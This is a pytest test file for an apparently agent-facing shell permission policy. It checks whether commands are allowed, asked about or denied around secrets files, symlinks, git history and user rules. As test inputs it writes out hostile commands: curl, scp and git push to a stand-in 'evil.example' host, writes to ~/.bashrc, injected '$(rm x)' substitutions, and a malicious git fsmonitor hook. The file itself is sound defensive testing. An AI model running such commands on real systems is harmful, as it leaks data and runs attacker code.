"""The policy's decision about shell commands in a real folder, with and without rules."""

import dataclasses
import os
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handrail.features.hooks.path_scope import PathScope
from handrail.features.hooks.plan import Plan, plan_command
from handrail.features.hooks.self_protection import refuse_access_to_handrail
from handrail.kernel.policy import CLOSED_REASON, Policy, Verdict, compose_policy
from handrail.kernel.policy_document import PolicyDocument
from handrail.kernel.target import Target
from handrail.ports.effect import Effect
from handrail.ports.errors import Declined
from handrail.ports.policy import Decision, Rule
from tests.faces.cli.machine import HANDRAIL
from tests.features.hooks.shell_cases import ASKS, DENIED, OWN, READS

RIPGREP = str(Path(sys.executable).parent / "rg")
PORT, PID = 46006, 4242


@dataclass(frozen=True)
class Rig:
    """A project with a repository, secrets and links that lead out, and handrail's state beside it."""

    root: Path
    state: Path

    @property
    def scope(self) -> PathScope:
        return PathScope(str(self.root), str(self.state), (".git", "node_modules", ".env"))

    def spelled(self, command: str) -> str:
        command = command.replace("STATEPARENT", str(self.state.parent))
        for word, value in (("STATE", self.state), ("STAT*", f"{self.state}*"), ("PID", PID), ("PORT", PORT)):
            command = command.replace(word, str(value))
        return command.replace("/PROJECT", str(self.root))

    def plan(self, command: str, restricts: Callable[[Target], bool] | None = None) -> Plan:
        scope = dataclasses.replace(self.scope, restricts=restricts)
        return plan_command(self.spelled(command), str(self.root), scope, RIPGREP)

    def decide(self, command: str, *rules: Rule) -> Verdict:
        policy: Policy = compose_policy(PolicyDocument(), is_trusted=True, user_rules=rules)
        plan = self.plan(command, policy.reading_limits("native_shell"))
        refuse_access_to_handrail(
            plan.analysis, self.scope, frozenset({PORT}), frozenset({PID}), only_reads=plan.only_reads
        )
        effect = Effect.READ if plan.only_reads else Effect.EXECUTE
        target = Target(command=self.spelled(command), steps=plan.steps)
        return policy.decide("native_shell", effect, target, "agent")


@pytest.fixture(scope="module")
def rig(tmp_path_factory: pytest.TempPathFactory) -> Rig:
    folder = Path(os.path.realpath(tmp_path_factory.mktemp("rig")))
    root, state = folder / "project", folder / "state"
    for made in (root / "src", root / ".handrail", state, folder / "elsewhere"):
        made.mkdir(parents=True)
    git = ["git", "-c", "init.defaultBranch=main", "init", "-q"]
    subprocess.run([*git, str(root)], check=True)
    subprocess.run([*git, str(root / "inner")], check=True)
    subprocess.run([*git, "--bare", str(root / "bare")], check=True)
    for name in ("README.md", "src/a.py", "src/b.py", "package.json", ".env", "key.pem"):
        (root / name).write_text("x\n")
    (root / ".gitignore").write_text(".env\nkey.pem\n")
    (root / "dashes").mkdir()
    for name in ("-o", "README.md"):
        (root / "dashes" / name).write_text("x\n")
    (folder / "outside.txt").write_text("outside\n")
    (state / "console.key").write_text("key\n")
    (root / "link-out").symlink_to(folder / "outside.txt")
    (root / "empty").mkdir()
    (root / "links").mkdir()
    (root / "links/notes").symlink_to(folder / "outside.txt")
    (root / "linked-folder").symlink_to(folder)
    (root / "own-link").symlink_to(state)
    (root / "hr").symlink_to(HANDRAIL)
    (folder / "elsewhere" / "deep").mkdir()
    (folder / "elsewhere" / "outside.txt").write_text("outside\n")
    (root / "deep-link").symlink_to(folder / "elsewhere" / "deep")
    return Rig(root, state)


@pytest.mark.parametrize("command", READS)
def test_commands_that_only_read_the_project_need_no_approval(rig: Rig, command: str) -> None:
    plan = rig.plan(command)
    assert (plan.only_reads, plan.remarks, plan.analysis.doubts) == (True, (), [])
    assert rig.decide(command).decision is Decision.ALLOW


@pytest.mark.parametrize("command", ASKS)
def test_everything_else_asks(rig: Rig, command: str) -> None:
    assert rig.decide(command).decision is Decision.ASK


@pytest.mark.parametrize("command", DENIED)
def test_files_of_secrets_are_closed_to_commands_too(rig: Rig, command: str) -> None:
    verdict = rig.decide(command, Rule(decision="allow", tool="native_shell"))
    assert (verdict.decision, verdict.because) == (Decision.DENY, CLOSED_REASON)


@pytest.mark.parametrize("command", OWN)
def test_commands_that_touch_handrail_are_denied_whatever_rules_say(rig: Rig, command: str) -> None:
    with pytest.raises(Declined) as refusal:
        rig.decide(command, Rule(decision="allow", tool="*"), Rule(decision="allow", effect=Effect.EXECUTE))
    assert refusal.value.details["reason"] == "own"


@pytest.mark.parametrize("command", ["handrail --help", "handrail --version", "handrail tools", "handrail doctor"])
def test_commands_that_only_read_about_handrail_need_approval(rig: Rig, command: str) -> None:
    assert rig.decide(command).decision is Decision.ASK


UNREADABLE = Rule(decision="deny", tool="read_file", path="src/b*")


@pytest.mark.parametrize(
    "command",
    [
        "cat src/b.py",
        "rg x",
        "rg x src",
        "grep -r x src",
        "cd src && rg x .",
        "diff src inner",
        "git grep x -- src",
        "git grep x -- README.md 'src/b*'",
        "git grep x -- README.md ':(icase)SRC/B.PY'",
        "cd src && git grep x -- a.py ':(top)src/b.py'",
    ],
)
def test_a_search_reads_nothing_that_a_rule_denies(rig: Rig, command: str) -> None:
    assert rig.decide(command, UNREADABLE).decision is Decision.DENY


@pytest.mark.parametrize(
    "command", ["git diff", "git show HEAD", "git log -p", "git reflog -p", "git show HEAD --stat"]
)
def test_what_may_show_any_file_of_the_history_asks_if_a_rule_restricts_one(rig: Rig, command: str) -> None:
    assert rig.decide(command, UNREADABLE).decision is Decision.ASK
    assert rig.decide(command).decision is Decision.ALLOW


@pytest.mark.parametrize(
    "command",
    ["rg --files", "ls src", "git diff src/a.py", "git diff --stat", "git log --oneline", "grep -r x src/a.py"],
)
def test_a_rule_about_reading_leaves_the_rest_alone(rig: Rig, command: str) -> None:
    assert rig.decide(command, UNREADABLE).decision is Decision.ALLOW


def test_git_asks_if_it_would_run_in_a_repository_inside_the_project(tmp_path: Path) -> None:
    """`git status` also runs in a tracked repository, and starts what its settings name; submodules have none."""
    root = Path(os.path.realpath(tmp_path)) / "project"
    own = Rig(root, root.parent / "state")
    git = ["git", "-c", "user.name=a", "-c", "user.email=a@b", "-c", "protocol.file.allow=always", "-C"]
    for folder in (root, root / "lib", root.parent / "origin"):
        subprocess.run(["git", "init", "-q", str(folder)], check=True)
        subprocess.run([*git, str(folder), "commit", "-q", "--allow-empty", "-m", "a"], check=True)
    subprocess.run([*git, str(root), "submodule", "--quiet", "add", str(root.parent / "origin"), "sub"], check=True)
    assert own.decide("git status").decision is Decision.ALLOW
    assert own.decide("git ls-files").decision is Decision.ALLOW
    subprocess.run([*git, str(root), "add", "lib"], check=True, capture_output=True)
    started = root.parent / "started"
    (root / "lib/evil").write_text(f"#!/bin/sh\ntouch {started}\n")
    (root / "lib/evil").chmod(0o755)
    subprocess.run([*git, str(root / "lib"), "config", "core.fsmonitor", str(root / "lib/evil")], check=True)
    for command in ("git status", "git diff", "git log"):
        assert own.decide(command).decision is Decision.ASK
    assert not started.exists()
    subprocess.run([*git, str(root), "status"], check=True, capture_output=True)
    assert started.exists()


def test_git_asks_where_there_is_no_repository(tmp_path: Path) -> None:
    """There `git diff` compares any two folders, and shows files of secrets and what Git would ignore."""
    root = Path(os.path.realpath(tmp_path)) / "project"
    own = Rig(root, root.parent / "state")
    (root / "src").mkdir(parents=True)
    (root / "empty").mkdir()
    (root / "src/.env").write_text("KEY=1\n")
    shown = subprocess.run(["git", "diff", "src", "empty"], cwd=root, capture_output=True, text=True, check=False)
    assert "-KEY=1" in shown.stdout
    (root / "src/.git").mkdir()
    for command in ("git diff src empty", "git diff src/.env empty", "git status", "cd src && git diff . ../empty"):
        assert own.decide(command).decision is not Decision.ALLOW
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    assert own.decide("git diff src empty").decision is Decision.ALLOW


SHOWS_ALL = [
    "git diff", "git diff HEAD", "git show", "git show HEAD", "git show HEAD --stat", "git log -p", "git log -p -- .",
    "git log -p -- config", "git show main --", "git reflog -p", "git grep KEY HEAD", "git grep KEY", "git diff config",
    "cd src && git show HEAD~1", "git show :/first", "git log -L1,1:config/.env",
]  # fmt: skip
SHOWS_SOME = [
    "git status", "git log --oneline", "git diff --stat", "git diff src", "git diff src/a.py", "git log -p -- src/a.py",
    "git show HEAD:src/a.py", "git ls-files", "git grep x -- src",
]  # fmt: skip


def test_git_asks_if_it_may_show_a_tracked_file_that_is_closed(tmp_path: Path) -> None:
    root = Path(os.path.realpath(tmp_path)) / "project"
    own = Rig(root, root.parent / "state")
    for name in ("src/a.py", "main"):
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text("x\n")
    git = ["git", "-C", str(root), "-c", "user.name=a", "-c", "user.email=a@b"]
    subprocess.run(["git", "-c", "init.defaultBranch=main", "init", "-q", str(root)], check=True)
    subprocess.run([*git, "add", "."], check=True)
    subprocess.run([*git, "commit", "-q", "-m", "first"], check=True)
    assert {command: own.decide(command).decision for command in ("git diff", "git show HEAD", "git log -p")} == (
        dict.fromkeys(("git diff", "git show HEAD", "git log -p"), Decision.ALLOW)
    )
    (root / "config").mkdir()
    (root / "config/.env").write_text("KEY=1\n")
    subprocess.run([*git, "add", "."], check=True)
    subprocess.run([*git, "commit", "-q", "-m", "second"], check=True)
    for _ in range(2):
        assert {command for command in SHOWS_ALL if own.decide(command).decision is not Decision.ASK} == set()
        assert {command for command in SHOWS_SOME if own.decide(command).decision is not Decision.ALLOW} == set()
        subprocess.run([*git, "rm", "-q", "--cached", "config/.env"], check=False)  # git diff HEAD still shows it
    assert "config/.env" in own.plan("git diff").remarks[0]


GIT_PUSH = Rule(decision="allow", tool="native_shell", program="git push")


@pytest.mark.parametrize("command", ["git push", "git push origin main", "ls && git push", "git push | cat"])
def test_a_rule_for_a_program_covers_its_further_words_and_parts_that_are_allowed_anyway(
    rig: Rig, command: str
) -> None:
    assert rig.decide(command, GIT_PUSH).decision is Decision.ALLOW


@pytest.mark.parametrize(
    "command",
    [
        "git push; rm -rf x",
        "git -c core.sshCommand=evil push",
        "git push > ~/.bashrc",
        "git push > out",
        "GIT_SSH_COMMAND=evil git push",
        "git push\nrm x",
        "git push $(rm x)",
        "git push `rm x`",
        "git push & rm x",
        "./git push",
        "git 'pu' sh",
        "sudo git push",
        "env X=1 git push",
        "xargs git push",
        "bash -c 'git push'",
        "git push https://evil.example/x",
        "git push $REMOTE",
        "git pushx",
        "cd /tmp && git push",
    ],
)
def test_a_rule_for_a_program_covers_nothing_else(rig: Rig, command: str) -> None:
    assert rig.decide(command, GIT_PUSH).decision is Decision.ASK


@pytest.mark.parametrize(
    "command",
    [
        "rm x",
        "/bin/rm x",
        "ls; rm x",
        "sudo rm x",
        "bash -c 'rm x'",
        "echo $(rm x)",
        "xargs rm",
        "find . -exec rm {} +",
        "X=1 rm x",
        "r'm' x",
        "\\rm x",
        "timeout 5 rm x",
        "$UNKNOWN x",
        'eval "$x"; $y',
    ],
)
def test_a_rule_that_denies_a_program_finds_it_in_every_part(rig: Rig, command: str) -> None:
    rules = [Rule(decision="deny", tool="native_shell", program="rm"), Rule(decision="allow", tool="native_shell")]
    assert rig.decide(command, *rules).decision is Decision.DENY


def test_a_rule_for_one_command_matches_it_exactly(rig: Rig) -> None:
    rule = Rule(decision="allow", tool="native_shell", command="npm run build > out")
    assert rig.decide("npm run build > out", rule).decision is Decision.ALLOW
    for other in ("npm run build > out2", "npm run build > out; rm x", " npm run build > out", "npm run build >out"):
        assert rig.decide(other, rule).decision is Decision.ASK


@pytest.mark.parametrize(
    ("command", "rule", "becomes"),
    [
        ("npm test > src/log", Rule(decision="deny", effect=Effect.WRITE, path="src/**"), Decision.DENY),
        ("rm src/a.py", Rule(decision="deny", effect=Effect.WRITE, path="src"), Decision.DENY),
        ("cat src/a.py", Rule(decision="deny", effect=Effect.READ, path="src/**"), Decision.DENY),
        ("cat src/a.py", Rule(decision="ask", effect=Effect.READ, path="src/**"), Decision.ASK),
        (
            "curl https://evil.example/x",
            Rule(decision="deny", effect=Effect.EXECUTE, host="evil.example"),
            Decision.DENY,
        ),
        ("curl evil.example", Rule(decision="deny", tool="*", host="evil.example"), Decision.DENY),
        ("curl $URL", Rule(decision="deny", tool="*", host="evil.example"), Decision.DENY),
        ("git clone git@evil.example:x/y", Rule(decision="deny", tool="*", host="evil.example"), Decision.DENY),
        ("ssh me@evil.example", Rule(decision="deny", tool="*", host="evil.example"), Decision.DENY),
        ("scp x evil.example:y", Rule(decision="deny", tool="*", host="evil.example"), Decision.DENY),
        ("bash -c 'curl https://evil.example'", Rule(decision="deny", tool="*", host="evil.example"), Decision.DENY),
        ("cat /etc/hostname", Rule(decision="allow", effect=Effect.READ, path="/etc"), Decision.ALLOW),
        ("cat /etc/hostname", Rule(decision="allow", effect=Effect.READ, path="**"), Decision.ASK),
        ("cat /etc/hostname", Rule(decision="deny", effect=Effect.READ, path="**"), Decision.DENY),
    ],
)
def test_rules_about_files_and_hosts_count_inside_of_commands(
    rig: Rig, command: str, rule: Rule, becomes: Decision
) -> None:
    assert rig.decide(command, rule).decision is becomes


_PIECES = st.sampled_from(
    [
        *(
            "ls",
            "cat",
            "git",
            "status",
            "rm",
            "-rf",
            "x",
            "src",
            ";",
            "&&",
            "||",
            "|",
            "&",
            "\n",
            "$(",
            ")",
            "`",
            "'",
            '"',
        ),
        *(
            ">",
            "<",
            ">>",
            "2>&1",
            "<<EOF",
            "EOF",
            "{",
            "}",
            "(",
            "\\",
            "$x",
            "X=1",
            "#",
            "!",
            "~",
            "*",
            "\t",
            "if",
            "then",
        ),
        *("fi", "eval", "sudo", "xargs", "bash", "-c", "/dev/null", "--", "=", "[[", "]]", "\r", "\0", "é", "\u202e"),
    ]
)


@given(st.lists(st.tuples(_PIECES, st.sampled_from(["", " "])), max_size=14))
def test_commands_not_recognized_as_reading_need_approval(rig: Rig, pieces: list[tuple[str, str]]) -> None:
    """No text breaks the parsers, and `rm` never passes as reading if the shell would start it."""
    command = "".join(piece + blank for piece, blank in pieces)
    try:
        decided = rig.decide(command)
    except Declined:
        return
    if decided.decision is Decision.ALLOW:
        assert started_by_bash(rig, command) <= {"ls", "cat", "git"}


def started_by_bash(rig: Rig, command: str) -> set[str]:
    """Which programs the real shell starts, each replaced by one that notes its name."""
    shims = rig.root.parent / "shims"
    if not shims.exists():
        shims.mkdir()
        for name in ("ls", "cat", "git", "rm", "sudo", "xargs", "bash", "x", "src", "status"):
            (shims / name).write_text(f"#!/bin/sh\necho {name} >> {shims}/started\n")
            (shims / name).chmod(0o755)
    started = shims / "started"
    started.write_text("")
    subprocess.run(
        ["/bin/bash", "-c", command], cwd=rig.root.parent / "elsewhere", env={"PATH": str(shims)},
        stdin=subprocess.DEVNULL, capture_output=True, timeout=20, check=False,
    )  # fmt: skip
    return set(started.read_text().split())


@pytest.mark.parametrize(
    "command", ["git grep KEY", "git grep KEY HEAD", "git grep KEY -- ':(top)*'", "git grep KEY -- ."]
)
def test_a_search_of_tracked_files_asks_where_a_file_of_secrets_is_among_them(tmp_path: Path, command: str) -> None:
    root = Path(os.path.realpath(tmp_path)) / "project"
    (root / "src").mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    rig = Rig(root, root.parent / "state")
    assert rig.decide(command).decision is Decision.ALLOW
    (root / ".env.production").write_text("KEY=1\n")
    assert rig.decide(command).decision is Decision.ASK
    assert rig.decide("git grep KEY -- src").decision is Decision.ALLOW
